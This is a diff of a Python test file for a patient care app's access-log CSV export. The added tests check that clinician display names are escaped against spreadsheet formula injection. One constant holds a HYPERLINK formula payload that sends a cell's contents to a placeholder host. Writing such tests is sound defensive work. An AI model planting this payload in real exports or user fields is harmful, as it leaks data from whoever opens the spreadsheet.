@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime
 
 import pytest
@@ -53,7 +55,7 @@ def test_the_patient_sees_and_downloads_their_log_and_only_theirs(cy, ana, bo, a
     page = ana_client.get(reverse("care:team")).content.decode()
     assert "viewed ana" in page
     assert "viewed bo" not in page
-    csv_text = ana_client.get(reverse("care:access_log_csv")).content.decode()
+    csv_text = ana_client.get(reverse("care:access_log_csv")).content.decode("utf-8-sig")
     assert csv_text.splitlines()[0] == "when,clinician,what"
     assert "viewed ana" in csv_text
     assert "viewed bo" not in csv_text
@@ -84,3 +86,39 @@ def test_the_patient_list_logs_one_summary_access_per_patient_shown(cy_client, a
         "read summary on the patient list (API)",
     ]
     assert not AccessRecord.objects.filter(patient=bo).exists()
+
+
+EXFILTRATE = '=HYPERLINK("http://x/?d="&A2,"y")'
+
+
+def access_log_rows(client):  # type: ignore[no-untyped-def]
+    content = client.get(reverse("care:access_log_csv")).content
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+def test_a_clinician_name_cannot_become_a_formula_in_the_patients_csv(
+    cy, cy_client, ana, ana_linked, ana_client
+):
+    """Clinicians choose their own display name; the patient opens the log in a spreadsheet."""
+    cy.display_name = EXFILTRATE
+    cy.save()
+    with time_machine.travel(NOW, tick=False):
+        cy_client.get(reverse("care:patient", args=[ana.pk]))
+    header, row = access_log_rows(ana_client)
+    assert header == ["when", "clinician", "what"]
+    assert row == [NOW.isoformat(), "'" + EXFILTRATE, "viewed diary and results"]
+    assert AccessRecord.objects.get().clinician_name == EXFILTRATE  # stored as written
+
+
+@pytest.mark.parametrize("name", ["+Cy", "-Cy", "@Cy", "\tCy", "\rCy", " =Cy"])
+def test_every_formula_trigger_is_quoted_and_plain_names_are_not(cy, ana, ana_client, name):
+    AccessRecord.objects.create(clinician=cy, patient=ana, what="x", clinician_name=name)
+    AccessRecord.objects.create(clinician=cy, patient=ana, what="x", clinician_name="Dr O'Cy")
+    names = sorted(row[1] for row in access_log_rows(ana_client)[1:])
+    assert names == sorted(["'" + name, "Dr O'Cy"])
+
+
+def test_the_log_starts_with_a_byte_order_mark_for_excel(cy, ana, ana_client):
+    AccessRecord.objects.create(clinician=cy, patient=ana, what="x", clinician_name="Dr Cé")
+    content = ana_client.get(reverse("care:access_log_csv")).content
+    assert content.startswith(b"\xef\xbb\xbfwhen,clinician,what")
